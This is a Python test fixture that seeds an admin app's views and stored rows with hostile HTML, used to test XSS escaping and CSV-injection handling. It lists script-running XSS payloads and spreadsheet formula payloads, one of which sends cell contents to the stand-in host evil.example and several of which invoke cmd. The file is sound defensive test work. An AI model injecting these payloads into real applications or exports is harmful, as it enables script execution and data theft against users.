"""Hostile text for the XSS and CSV-injection tests of the admin views.

:func:`seed` makes the sandbox answer HTML in every display text (ticket summaries, company,
board, status and member names, note texts, the version) and stores rows whose every text
column (credentials' last error and editor, flags' tenant and editor, change-log operator,
member, note text and step errors) is hostile HTML.
"""

from __future__ import annotations

from typing import Any

#: Each sets ``window.__xss`` and opens a dialog if the browser ever runs it.
PAYLOADS = (
    "<img src=x onerror=window.__xss=1;alert(1)>",
    "<script>window.__xss=1;alert(2)</script>",
    '"><svg onload=window.__xss=1;alert(3)>',
    "'><svg onload=window.__xss=1;alert(4)>",
)
HOSTILE = " ".join(PAYLOADS)
#: Fits a 128-character column (member, operator, updated_by).
HOSTILE_SHORT = f"{PAYLOADS[2]} {PAYLOADS[0]}"
#: Fits a 64-character tenant id.
HOSTILE_TENANT = PAYLOADS[2]

#: Cells a spreadsheet would run as formulas (OWASP CSV injection), with what they mean.
FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1d1+1",
)


def is_formula(cell: str) -> bool:
    """Whether a spreadsheet would read ``cell`` as a formula."""
    starts = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
    return cell.lstrip(" ").startswith(starts)


def no_raw_payload(html: str) -> list[str]:
    """The payloads that appear unescaped in ``html`` (should be none)."""
    return [p for p in PAYLOADS if p in html]


def make_change(app: Any, tenant: str, *, note: str, member: str, operator: str, error: str) -> int:
    """A change-log row whose texts and step errors are ``note``/``member``/... (failed)."""
    with app.app_context():
        outbox = app.extensions["test_cw"].outbox
        row, _ = outbox.record(tenant, 12345, note, member=member, hours=0.25, operator=operator)
        row.state = "failed"
        row.note_state = row.time_state = row.status_state = "failed"
        row.note_error = row.time_error = row.status_error = error
        outbox.session.commit()
        return int(row.id)


def seed(app: Any, sandbox: Any, tenant: str) -> dict[str, Any]:
    """Hostile ConnectWise answers and hostile stored rows; returns the ids to visit."""
    from tests.admin_helpers import seed_credentials

    sandbox.prefix_text(HOSTILE + " ")
    row_id = seed_credentials(app, tenant, sandbox)
    with app.app_context():
        tenants = app.extensions["test_cw"].tenants
        row = tenants.credentials_row(tenant)
        row.last_error = HOSTILE
        row.updated_by = HOSTILE_SHORT
        tenants.session.commit()
        tenants.set_flag(tenant, True, actor=HOSTILE_SHORT)
        flag = tenants.set_flag(HOSTILE_TENANT, False, actor=HOSTILE_SHORT)
        flag_id = int(flag.id)
    change_id = make_change(
        app, tenant, note=HOSTILE, member=HOSTILE_SHORT, operator=HOSTILE_SHORT, error=HOSTILE
    )
    return {"credentials": row_id, "flag": flag_id, "change": change_id}
